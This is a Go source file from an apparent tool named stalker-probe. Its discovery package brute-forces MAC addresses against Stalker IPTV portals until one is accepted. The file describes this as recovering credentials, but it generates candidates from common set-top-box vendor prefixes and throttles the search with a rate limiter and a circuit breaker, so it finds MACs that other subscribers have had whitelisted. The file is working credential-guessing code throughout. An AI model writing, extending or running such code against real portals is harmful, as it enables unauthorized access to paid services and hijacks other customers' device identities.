// Package discovery recovers working portal credentials when none is known.
// Stalker portals whitelist specific MAC addresses and offer no discovery
// API, so the only recovery path is a bounded, throttled search over
// syntactically plausible addresses biased toward common STB vendor
// prefixes. The engine drives a fresh protocol client per candidate, races
// each handshake against a per-attempt timeout, and stops on the first
// candidate that both handshakes and returns a profile.
//
// The package also houses the batch credential tester, which audits an
// explicit candidate list instead of searching.
package discovery

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"time"

	"github.com/google/uuid"
	"github.com/sony/gobreaker"
	"golang.org/x/time/rate"

	macaddr "github.com/stalkerprobe/stalker-probe/internal/mac"
	"github.com/stalkerprobe/stalker-probe/internal/metrics"
	"github.com/stalkerprobe/stalker-probe/internal/stalker"
)

const (
	DefaultMaxAttempts    = 100
	DefaultAttemptTimeout = 5 * time.Second
	DefaultDelay          = 100 * time.Millisecond

	// Consecutive transport faults before the breaker declares the portal
	// unreachable and the search stops burning its attempt budget.
	defaultBreakerThreshold = 5

	// Exhaustion reports carry at most this many tested MACs.
	testedSampleSize = 10
)

// ClientFactory builds a protocol client bound to one candidate credential.
// Every attempt gets its own client so an abandoned slow request can never
// touch a later attempt's session.
type ClientFactory func(portalURL, mac, timezone string) (*stalker.Client, error)

// DefaultClientFactory builds stalker clients with the given per-request
// options (shared by Finder and Tester when their NewClient is nil).
func DefaultClientFactory(opts ...stalker.Option) ClientFactory {
	return func(portalURL, mac, timezone string) (*stalker.Client, error) {
		return stalker.New(portalURL, mac, timezone, opts...)
	}
}

// Outcome classifies one probe attempt.
type Outcome string

const (
	OutcomeSuccess     Outcome = "success"
	OutcomeAuthFailure Outcome = "auth_failure"
	OutcomeTimeout     Outcome = "timeout"
	OutcomeError       Outcome = "error"
)

// Result reports a successful search.
type Result struct {
	RunID    string
	MAC      string
	Attempts int
}

// ExhaustedError reports a search that ran out of attempts. Tested is a
// bounded sample of candidate MACs for diagnostics, never the full list.
type ExhaustedError struct {
	Attempts int
	Tested   []string
}

func (e *ExhaustedError) Error() string {
	return fmt.Sprintf("no working MAC found after %d attempts", e.Attempts)
}

// UnreachableError reports a search aborted because consecutive transport
// faults indicate the portal itself is down — a different corrective action
// than "no working credential".
type UnreachableError struct {
	Attempts int
	Err      error
}

func (e *UnreachableError) Error() string {
	return fmt.Sprintf("portal unreachable after %d attempts: %v", e.Attempts, e.Err)
}

func (e *UnreachableError) Unwrap() error { return e.Err }

// Finder is the MAC discovery engine. Zero-value fields take the defaults
// above; PortalURL is required.
type Finder struct {
	PortalURL      string
	Timezone       string
	MaxAttempts    int
	AttemptTimeout time.Duration
	Delay          time.Duration // inter-attempt throttle, politeness to the portal
	Prefix         string        // optional vendor prefix for generated candidates

	NewClient ClientFactory
	Generate  func(prefix string) string
	Log       *slog.Logger
}

func (f *Finder) defaults() {
	if f.MaxAttempts <= 0 {
		f.MaxAttempts = DefaultMaxAttempts
	}
	if f.AttemptTimeout <= 0 {
		f.AttemptTimeout = DefaultAttemptTimeout
	}
	if f.Delay <= 0 {
		f.Delay = DefaultDelay
	}
	if f.NewClient == nil {
		f.NewClient = DefaultClientFactory()
	}
	if f.Generate == nil {
		f.Generate = macaddr.Generate
	}
	if f.Log == nil {
		f.Log = slog.Default()
	}
}

// Find searches for a credential the portal accepts. It returns the winning
// MAC and attempt count, an *ExhaustedError after MaxAttempts misses, an
// *UnreachableError when the portal stops answering, or ctx.Err() when the
// caller cancels.
func (f *Finder) Find(ctx context.Context) (*Result, error) {
	f.defaults()
	runID := uuid.NewString()
	log := f.Log.With("run_id", runID, "portal", f.PortalURL)
	log.Info("starting MAC discovery", "max_attempts", f.MaxAttempts)

	limiter := rate.NewLimiter(rate.Every(f.Delay), 1)
	cb := gobreaker.NewCircuitBreaker(gobreaker.Settings{
		Name: "portal " + f.PortalURL,
		ReadyToTrip: func(counts gobreaker.Counts) bool {
			return counts.ConsecutiveFailures >= defaultBreakerThreshold
		},
		// A slow portal is still a reachable portal: attempts abandoned at
		// the per-attempt deadline count as plain misses, not transport
		// faults, so a consistently slow host runs to exhaustion instead of
		// tripping the breaker.
		IsSuccessful: func(err error) bool {
			return err == nil || errors.Is(err, context.DeadlineExceeded)
		},
	})

	tested := make([]string, 0, testedSampleSize)
	var lastErr error
	for attempt := 1; attempt <= f.MaxAttempts; attempt++ {
		if err := limiter.Wait(ctx); err != nil {
			metrics.DiscoveryRuns.WithLabelValues("canceled").Inc()
			return nil, err
		}

		candidate := f.Generate(f.Prefix)
		if len(tested) < testedSampleSize {
			tested = append(tested, candidate)
		}

		outcome, err := f.probe(ctx, cb, candidate)
		metrics.DiscoveryAttempts.WithLabelValues(string(outcome)).Inc()
		log.Debug("probe attempt", "attempt", attempt, "mac", candidate, "outcome", outcome)

		switch {
		case outcome == OutcomeSuccess:
			log.Info("found working MAC", "mac", candidate, "attempts", attempt)
			metrics.DiscoveryRuns.WithLabelValues("found").Inc()
			return &Result{RunID: runID, MAC: candidate, Attempts: attempt}, nil
		case errors.Is(err, gobreaker.ErrOpenState) || errors.Is(err, gobreaker.ErrTooManyRequests):
			// The attempt that found the breaker open made no network call.
			log.Warn("portal unreachable, aborting search", "attempts", attempt-1)
			metrics.DiscoveryRuns.WithLabelValues("unreachable").Inc()
			return nil, &UnreachableError{Attempts: attempt - 1, Err: lastErr}
		case ctx.Err() != nil:
			metrics.DiscoveryRuns.WithLabelValues("canceled").Inc()
			return nil, ctx.Err()
		}
		if err != nil {
			lastErr = err
		}
	}

	log.Info("search exhausted", "attempts", f.MaxAttempts)
	metrics.DiscoveryRuns.WithLabelValues("exhausted").Inc()
	return nil, &ExhaustedError{Attempts: f.MaxAttempts, Tested: tested}
}

// probe tests one candidate: handshake bounded by AttemptTimeout, then a
// profile confirmation. Only handshake transport faults feed the breaker;
// a portal that answers "no" or answers slowly is reachable.
func (f *Finder) probe(ctx context.Context, cb *gobreaker.CircuitBreaker, candidate string) (Outcome, error) {
	actx, cancel := context.WithTimeout(ctx, f.AttemptTimeout)
	defer cancel()

	client, err := f.NewClient(f.PortalURL, candidate, f.Timezone)
	if err != nil {
		return OutcomeError, err
	}

	v, err := cb.Execute(func() (any, error) {
		return client.Handshake(actx)
	})
	if err != nil {
		if actx.Err() == context.DeadlineExceeded {
			return OutcomeTimeout, err
		}
		return OutcomeError, err
	}
	sess, _ := v.(*stalker.Session)
	if sess == nil {
		return OutcomeAuthFailure, nil
	}

	// A token without a profile is still an unusable credential.
	profile, err := sess.Profile(actx)
	if err != nil {
		if actx.Err() == context.DeadlineExceeded {
			return OutcomeTimeout, err
		}
		return OutcomeError, err
	}
	if len(profile) == 0 {
		return OutcomeAuthFailure, nil
	}
	return OutcomeSuccess, nil
}
